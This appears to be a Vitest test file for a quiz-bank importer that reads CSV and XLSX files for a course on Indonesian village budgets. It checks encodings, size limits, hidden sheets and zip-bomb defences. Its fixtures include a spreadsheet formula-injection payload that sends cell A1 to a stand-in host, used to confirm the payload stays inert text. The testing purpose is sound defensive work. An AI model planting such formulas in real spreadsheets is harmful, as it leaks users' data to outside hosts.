import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { readCsv } from '../../../main/core/questions/csv';
import { planImport } from '../../../main/core/questions/import';
import { questionTemplate } from '../../../main/core/questions/template';
import { readXlsx, XLSX_LIMITS } from '../../../main/core/questions/xlsx';
import {
  bankRows,
  csvBytes,
  HEADERS,
  row,
  utf16be,
  utf16le,
  windows1252,
  workbookBytes,
} from '../../fixtures/questions/generate';

const FIXTURES = join(import.meta.dirname, '..', '..', 'fixtures', 'questions');
const COURSE = {
  language: 'id' as const,
  modules: [{ id: 'dasar-apbdes', title: 'Dasar-dasar APB Desa' }],
  questions: [{ id: 'q-lama', prompt: 'Soal yang sudah ada di bank?' }],
};

describe('CSV banks', () => {
  it('imports the hostile CSV: formula-looking cells are text, every other row refused with its number and reason', () => {
    const read = readCsv(readFileSync(join(FIXTURES, 'hostile.csv')), 'id');
    const { preview, questions } = planImport('csv', read, COURSE);
    expect(preview.questions.map((q) => q.at.row)).toEqual([2, 3, 4]);
    // Row 2: every cell kept exactly as typed, as text.
    expect(questions[0]).toMatchObject({
      kind: 'single',
      prompt: '=HYPERLINK("http://contoh.invalid/curi?"&A1,"Klik")',
      options: [
        { id: 'a', text: '+62 812' },
        { id: 'b', text: '-5' },
        { id: 'c', text: '@SUM(A1:A9)' },
      ],
      correct: ['a'],
      explanation: '=1+1 tetap teks',
    });
    expect(questions[1]).toMatchObject({ moduleId: 'dasar-apbdes', tags: ['apbdes', 'dasar'] });
    expect(questions[1]!.prompt).toBe('Kuis dengan koma, kutip "ganda" dan\nbaris baru');
    expect(questions[2]).toMatchObject({
      kind: 'truefalse',
      correct: ['benar'],
      options: [{ id: 'benar' }, { id: 'salah' }],
    });
    expect(preview.refused.map((r) => [r.at.row, r.code])).toEqual([
      [5, 'unknown_kind'],
      [6, 'bad_correct'],
      [7, 'several_correct'],
      [8, 'unknown_module'],
      [9, 'truefalse_answer'],
      [10, 'no_prompt'],
      [11, 'duplicate_option'],
      [13, 'duplicate'],
    ]);
    for (const r of preview.refused) {
      expect(r.reason.length).toBeGreaterThan(10);
      expect(r.alasan.length).toBeGreaterThan(10);
    }
  });

  const text = csvBytes([
    row({
      Jenis: 'satu jawaban',
      Pertanyaan: 'Siapa “PKPKD” di désa?',
      'Pilihan A': 'Kepala Desa – pemegang',
      'Pilihan B': 'Camat',
      'Jawaban benar': 'A',
      Penjelasan: 'Ps. 3 (€0).',
    }),
  ]);
  it.each([
    ['utf-8', Buffer.from(text, 'utf8')],
    ['utf-8 with BOM', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text, 'utf8')])],
    ['windows-1252', windows1252(text)],
    ['utf-16le with BOM', utf16le(text)],
    ['utf-16be with BOM', utf16be(text)],
    ['utf-16le', utf16le(text, false)],
  ])('reads %s and names the encoding', (encoding, bytes) => {
    const read = readCsv(bytes, 'id');
    expect(read.encoding).toBe(encoding);
    expect(read.questions).toHaveLength(1);
    expect(read.questions[0]).toMatchObject({ prompt: 'Siapa “PKPKD” di désa?', explanation: 'Ps. 3 (€0).' });
    expect(read.questions[0]!.options[0]!.text).toBe('Kepala Desa – pemegang');
    if (encoding !== 'utf-8') expect(read.notices.map((n) => n.code)).toContain('encoding');
  });

  it('reads the semicolons Indonesian Excel writes', () => {
    const read = readCsv(Buffer.from(csvBytes(bankRows(3), ';')), 'id');
    expect(read.questions).toHaveLength(3);
    expect(read.questions[0]!.options[0]!.text).toBe('Jawaban pertama 1');
  });

  it('refuses a 10 MB cell by its row and keeps the rows around it', () => {
    const rows = bankRows(3);
    rows[1]![HEADERSIndex('Pertanyaan')] = 'x'.repeat(10 * 1024 ** 2);
    const { preview } = planImport('csv', readCsv(Buffer.from(csvBytes(rows)), 'id'), COURSE);
    expect(preview.questions.map((q) => q.at.row)).toEqual([2, 4]);
    expect(preview.refused).toMatchObject([{ at: { row: 3 }, code: 'text_too_long' }]);
    expect(preview.refused[0]!.reason).toContain('10485760 characters');
  });

  it('a file without the header row is refused as a whole, in both languages', () => {
    expect(() => readCsv(Buffer.from('a,b,c\n1,2,3\n'), 'id')).toThrow(/no header row/);
  });
});

function HEADERSIndex(header: string): number {
  return HEADERS.indexOf(header);
}

describe('XLSX banks', () => {
  it('the template has the question sheet, drop-down lists, text-formatted cells, and the instructions; filled in, it imports', async () => {
    const bytes = await questionTemplate();
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(bytes as unknown as ArrayBuffer);
    expect(wb.worksheets.map((s) => s.name)).toEqual(['Soal', 'Petunjuk']);
    const sheet = wb.getWorksheet('Soal')!;
    expect((sheet.getRow(1).values as unknown[]).slice(1)).toEqual(HEADERS);
    expect(sheet.getCell('C2').dataValidation).toMatchObject({
      type: 'list',
      formulae: ['"satu jawaban,banyak jawaban,benar-salah"'],
    });
    expect(sheet.getColumn(4).numFmt).toBe('@');
    // Fill 30 rows (as the end-to-end test will) and read it back.
    bankRows(30).forEach((r, i) => (sheet.getRow(i + 2).values = r));
    const filled = Buffer.from(await wb.xlsx.writeBuffer());
    const read = await readXlsx(filled, 'id');
    const { preview } = planImport('xlsx', read, COURSE);
    expect(preview.questions).toHaveLength(30);
    expect(preview.refused).toEqual([]);
    expect(preview.questions[1]).toMatchObject({ kind: 'multiple', at: { sheet: 'Soal', row: 3 } });
  });

  it('skips hidden sheets and says so; merged cells give their value to each row they cover, and are named', async () => {
    const rows = bankRows(4);
    const bytes = await workbookBytes({
      hidden: [
        { name: 'Kunci rahasia', state: 'hidden', rows: bankRows(2) },
        { name: 'Sangat tersembunyi', state: 'veryHidden', rows: bankRows(2) },
      ],
      rows,
      // The explanation of rows 2 and 3 (questions 1 and 2) is one merged cell; the type of rows 4–5 too.
      merges: ['N2:N3', 'C4:C5'],
    });
    const read = await readXlsx(bytes, 'id');
    expect(read.notices.filter((n) => n.code === 'hidden_sheet').map((n) => n.at?.sheet)).toEqual([
      'Kunci rahasia',
      'Sangat tersembunyi',
    ]);
    expect(read.notices.find((n) => n.code === 'merged_cells')?.reason).toContain('N2:N3');
    const { preview } = planImport('xlsx', read, COURSE);
    expect(preview.questions.map((q) => q.at.row)).toEqual([2, 3, 4, 5]);
    expect(preview.questions[1]!.explanation).toBe(preview.questions[0]!.explanation);
    // Row 5 was a single-answer question; the merged type cell makes it a true/false, and its answer "B" reads as Benar.
    expect(preview.questions[3]!.kind).toBe('truefalse');
  });

  it('a formula cell refuses its row by cell; text that looks like a formula imports as text', async () => {
    const rows: (string | ExcelJS.CellValue)[][] = bankRows(3);
    rows[0]![HEADERSIndex('Pertanyaan')] = {
      formula: 'HYPERLINK("http://contoh.invalid","Klik")',
      result: 'Klik',
    };
    rows[1]![HEADERSIndex('Pertanyaan')] = '=HYPERLINK("http://contoh.invalid","Klik")';
    rows[1]![HEADERSIndex('Pilihan A')] = '@SUM(A1)';
    const read = await readXlsx(
      await workbookBytes({ rows, above: ['Bank soal Kabupaten Kebumen', ''] }),
      'id',
    );
    expect(read.refused).toMatchObject([{ at: { row: 4 }, code: 'formula_cell' }]);
    expect(read.refused[0]!.reason).toContain('cell D4');
    expect(read.questions.map((q) => q.prompt)[0]).toBe('=HYPERLINK("http://contoh.invalid","Klik")');
    expect(read.questions[0]!.options[0]!.text).toBe('@SUM(A1)');
  });

  it('refuses a 10 MB cell by its row', async () => {
    const rows = bankRows(2);
    rows[0]![HEADERSIndex('Penjelasan')] = 'y'.repeat(10 * 1024 ** 2);
    const { preview } = planImport('xlsx', await readXlsx(await workbookBytes({ rows }), 'id'), COURSE);
    expect(preview.refused).toMatchObject([{ at: { row: 2 }, code: 'text_too_long' }]);
    expect(preview.questions.map((q) => q.at.row)).toEqual([3]);
  });

  it('a workbook that would unpack past the limit is refused before exceljs inflates it', async () => {
    const bytes = await workbookBytes({ rows: bankRows(20) });
    await expect(readXlsx(bytes, 'id', { ...XLSX_LIMITS, maxUnzippedBytes: 4096 })).rejects.toThrow(
      /unpacks to more than/,
    );
    await expect(readXlsx(bytes, 'id', { ...XLSX_LIMITS, maxEntries: 3 })).rejects.toThrow(/parts/);
    expect((await readXlsx(bytes, 'id')).questions).toHaveLength(20);
  });

  it('something that is not a workbook is refused as a whole', async () => {
    await expect(readXlsx(Buffer.from('No,Pertanyaan\n'), 'id')).rejects.toThrow(/not an XLSX/);
  });
});
